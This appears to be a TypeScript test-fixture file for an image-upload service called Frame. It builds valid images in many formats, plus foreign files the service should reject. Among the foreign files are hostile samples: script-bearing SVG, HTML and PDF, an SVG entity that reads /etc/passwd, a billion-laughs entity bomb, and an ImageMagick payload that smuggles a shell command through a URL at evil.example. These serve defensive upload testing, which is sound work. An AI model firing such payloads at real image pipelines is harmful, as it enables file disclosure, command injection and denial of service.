import sharp from 'sharp'
import { animatedPng } from './image-bytes.ts'

/** Valid pictures, each of one colour, from which the damaged ones are made. */
export type ImageBase = {
  readonly name: string
  readonly type: string
  readonly bytes: Buffer
  /** Red, green and blue of the middle, within `tolerance`. */
  readonly colour: readonly [number, number, number]
  readonly tolerance: number
}

const RED = [200, 60, 40] as const
const GREY = [120, 120, 120] as const

/** Every kind of picture that Frame accepts, including unusual ones. */
export async function makeImageBases(): Promise<ImageBase[]> {
  const red = plain(48, 36)
  const png = await red.clone().png().toBuffer()
  const base = async (
    name: string,
    type: string,
    image: Promise<Buffer> | Buffer,
    more: Partial<ImageBase> = {},
  ): Promise<ImageBase> => ({ name, type, bytes: await image, colour: RED, tolerance: 12, ...more })
  const grey = sharp(Buffer.alloc(48 * 36, 120), { raw: { width: 48, height: 36, channels: 1 } })
  const deep = await sharp(png).toColourspace('rgb16').png().toBuffer()
  return Promise.all([
    base('a JPEG', 'image/jpeg', red.clone().jpeg({ quality: 90 }).toBuffer()),
    base('a progressive JPEG', 'image/jpeg', red.clone().jpeg({ progressive: true }).toBuffer()),
    base(
      'a JPEG with restarts',
      'image/jpeg',
      red.clone().jpeg({ mozjpeg: true, trellisQuantisation: false }).toBuffer(),
    ),
    base(
      'a CMYK JPEG',
      'image/jpeg',
      red.clone().toColourspace('cmyk').withIccProfile('cmyk').jpeg().toBuffer(),
      { tolerance: 60 },
    ),
    base('a grey JPEG', 'image/jpeg', grey.clone().toColourspace('b-w').jpeg().toBuffer(), {
      colour: GREY,
    }),
    base(
      'a JPEG in Display P3',
      'image/jpeg',
      red.clone().withIccProfile('p3').jpeg({ quality: 95 }).toBuffer(),
      { tolerance: 20 },
    ),
    base(
      'a JPEG with EXIF that lies on its side',
      'image/jpeg',
      red
        .clone()
        .withMetadata({ orientation: 6 })
        .withExifMerge({ IFD0: { Artist: 'somebody' } })
        .jpeg()
        .toBuffer(),
    ),
    base('a PNG', 'image/png', png),
    base('an interlaced PNG', 'image/png', red.clone().png({ progressive: true }).toBuffer()),
    base(
      'a PNG of a palette',
      'image/png',
      red.clone().png({ palette: true, colours: 4 }).toBuffer(),
      { tolerance: 20 },
    ),
    base('a PNG of 16 bits', 'image/png', deep),
    base(
      'a grey PNG with alpha',
      'image/png',
      grey
        .clone()
        .toColourspace('b-w')
        .joinChannel(Buffer.alloc(48 * 36, 255), { raw: { width: 48, height: 36, channels: 1 } })
        .png()
        .toBuffer(),
      { colour: GREY },
    ),
    base('an animated PNG', 'image/png', animatedPng(png, 4)),
    base('one pixel', 'image/png', plain(1, 1).png().toBuffer()),
    base('a hair', 'image/png', plain(1, 20_000).png().toBuffer()),
    base('a thread', 'image/png', plain(20_000, 1).png().toBuffer()),
    base('a WebP', 'image/webp', red.clone().webp({ quality: 90 }).toBuffer()),
    base(
      'a lossless WebP with alpha',
      'image/webp',
      red.clone().ensureAlpha(1).webp({ lossless: true }).toBuffer(),
    ),
    base('an animated WebP', 'image/webp', animatedWebp()),
    base('an AVIF', 'image/avif', red.clone().avif({ quality: 70, effort: 0 }).toBuffer(), {
      tolerance: 20,
    }),
    base(
      'an AVIF of 10 bits',
      'image/avif',
      red
        .clone()
        .avif({ quality: 70, effort: 0, bitdepth: 10 })
        .toBuffer()
        .catch(() => red.clone().avif({ effort: 0 }).toBuffer()),
      { tolerance: 20 },
    ),
  ])
}

function plain(width: number, height: number) {
  const [r, g, b] = RED
  return sharp({ create: { width, height, channels: 3, background: { r, g, b } } })
}

async function animatedWebp(): Promise<Buffer> {
  const frames = await plain(24, 24 * 3)
    .png()
    .toBuffer()
  return sharp(frames, { raw: undefined as never, pages: 1 })
    .webp({ loop: 0, delay: [50, 50, 50] })
    .toBuffer()
}

/** Pictures of kinds that Frame does not take. */
export async function makeForeignImages(): Promise<{ name: string; bytes: Buffer }[]> {
  const red = plain(48, 36)
  const avif = await red.clone().avif({ effort: 0 }).toBuffer()
  const heic = Buffer.from(avif)
  for (let at = heic.indexOf('avif'); at !== -1 && at < 64; at = heic.indexOf('avif'))
    heic.write('heic', at, 'latin1')
  const psd = Buffer.alloc(400)
  psd.write('8BPS\0\x01', 'latin1')
  return [
    { name: 'a GIF', bytes: await red.clone().gif().toBuffer() },
    { name: 'a TIFF', bytes: await red.clone().tiff().toBuffer() },
    { name: 'a HEIC', bytes: heic },
    {
      name: 'a HEIC of another brand',
      bytes: Buffer.from('\0\0\0\x18ftypmif1\0\0\0\0mif1heic\0\0\0\0', 'latin1'),
    },
    { name: 'a PSD', bytes: psd },
    {
      name: 'a PDF',
      bytes: Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
      ),
    },
    { name: 'a BMP', bytes: Buffer.from('BM\x3a\0\0\0\0\0\0\0\x36\0\0\0', 'latin1') },
    { name: 'an icon', bytes: Buffer.from('\0\0\x01\0\x01\0\x10\x10', 'latin1') },
    { name: 'a JPEG XL', bytes: Buffer.from('\xff\x0a\xfa\x7f', 'latin1') },
    {
      name: 'an SVG',
      bytes: Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>',
      ),
    },
    {
      name: 'an SVG with a script',
      bytes: Buffer.from(
        '<?xml version="1.0"?><svg ' +
          'xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      ),
    },
    {
      name: 'an SVG with a file of ours',
      bytes: Buffer.from(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg ' +
          'xmlns="http://www.w3.org/2000/svg"><text>&x;</text><image ' +
          'href="file:///etc/passwd"/></svg>',
      ),
    },
    {
      name: 'an SVG of a billion laughs',
      bytes: Buffer.from(
        `<!DOCTYPE svg [<!ENTITY a "ha">${'bcdefghij'
          .split('')
          .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
          .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
      ),
    },
    {
      name: 'an SVG in UTF-16',
      bytes: Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>', 'utf16le'),
    },
    { name: 'HTML', bytes: Buffer.from('<!doctype html><script>alert(1)</script>') },
    { name: 'a zip', bytes: Buffer.from('PK\x03\x04\x14\0\0\0', 'latin1') },
    {
      name: 'ImageMagick code',
      bytes: Buffer.from(
        'push graphic-context\nfill "url(https://evil.example/|ls)"\npop graphic-context',
      ),
    },
    { name: 'nothing', bytes: Buffer.alloc(0) },
  ]
}
